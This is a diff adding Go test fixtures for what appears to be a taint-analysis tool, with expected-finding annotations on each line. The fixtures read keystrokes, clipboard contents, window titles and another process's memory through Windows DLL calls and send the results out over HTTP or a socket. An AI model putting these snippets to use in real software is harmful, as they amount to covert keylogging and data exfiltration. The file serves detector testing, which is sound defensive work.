@@ -10,6 +10,8 @@ import (
 	"net/http"
 	"os"
 	"strconv"
+	"syscall"
+	"unsafe"
 
 	"github.com/MarinX/keylogger"
 	"github.com/atotto/clipboard"
@@ -191,4 +193,76 @@ func typed(c net.Conn) {
 
 func typedUnused() {
 	term.ReadPassword(0) //~ ok
+}
+
+func pressed() {
+	state := syscall.NewLazyDLL("user32.dll").NewProc("GetAsyncKeyState") //~ source(KEYSTROKE) f35, capability(KEYBOARD)
+	r, _, _ := state.Call(65)
+	http.Get(U + strconv.Itoa(int(r))) //~ sink(egress.http) f35, finding(traced) f35
+}
+
+func pressedUnused() {
+	syscall.NewLazyDLL("user32.dll").NewProc("GetAsyncKeyState") //~ ok
+}
+
+func clipboardHandle() {
+	get := syscall.NewLazyDLL("user32.dll").NewProc("GetClipboardData") //~ source(CLIPBOARD) f37, capability(CLIPBOARD)
+	r, _, _ := get.Call(13)
+	http.Get(U + fmt.Sprint(r)) //~ sink(egress.http) f37, finding(traced) f37
+}
+
+func clipboardHandleUnused() {
+	syscall.NewLazyDLL("user32.dll").NewProc("GetClipboardData") //~ ok
+}
+
+func otherMemory(c net.Conn, handle uintptr) {
+	b := make([]byte, 64)
+	read := syscall.NewLazyDLL("kernel32.dll").NewProc("ReadProcessMemory") //~ source(MEMORY) f39, capability(MEMORY)
+	read.Call(handle, 0, uintptr(unsafe.Pointer(&b[0])), 64, 0)
+	c.Write(b) //~ sink(egress.socket) f39, MISSING: finding(traced) f39
+}
+
+func otherMemoryBuffer(c net.Conn, handle uintptr) {
+	b := make([]byte, 64)
+	read := syscall.NewLazyDLL("kernel32.dll").NewProc("ReadProcessMemory") //~ source(MEMORY) f40, capability(MEMORY)
+	read.Call(handle, 0, b, 64, 0)
+	c.Write(b) //~ sink(egress.socket) f40, finding(traced) f40
+}
+
+func otherMemoryUnused() {
+	syscall.NewLazyDLL("kernel32.dll").NewProc("ReadProcessMemory") //~ ok
+}
+
+func windowTitle(c net.Conn, handle uintptr) {
+	b := make([]byte, 64)
+	get := syscall.NewLazyDLL("user32.dll").NewProc("GetWindowTextW") //~ source(PROCESS) f42, capability(PROCESSES)
+	get.Call(handle, b, 64)
+	c.Write(b) //~ sink(egress.socket) f42, finding(traced) f42
+}
+
+func windowTitleUnused() {
+	syscall.NewLazyDLL("user32.dll").NewProc("GetWindowTextW") //~ ok
+}
+
+func procedure() {
+	state := syscall.NewLazyDLL("user32.dll").NewProc("GetKeyState") //~ source(KEYSTROKE) f44
+	r, _, _ := state.Call(65)
+	http.Get(U + strconv.Itoa(int(r))) //~ sink(egress.http) f44, finding(traced) f44
+}
+
+func procedureOther() {
+	beep := syscall.NewLazyDLL("user32.dll").NewProc("MessageBeep") //~ ok
+	r, _, _ := beep.Call(0)
+	http.Get(U + strconv.Itoa(int(r))) //~ ok
+}
+
+func called() {
+	state := syscall.NewLazyDLL("user32.dll").NewProc("GetKeyState") //~ source(KEYSTROKE) f46
+	r, _, _ := state.Call(65) //~ capability(NATIVE)
+	http.Get(U + strconv.Itoa(int(r))) //~ sink(egress.http) f46, finding(traced) f46
+}
+
+func calledOther(p *syscall.LazyProc) {
+	r, _, _ := p.Call(uintptr(os.Getpid())) //~ ok
+	http.Get(U + strconv.Itoa(int(r))) //~ ok
 }
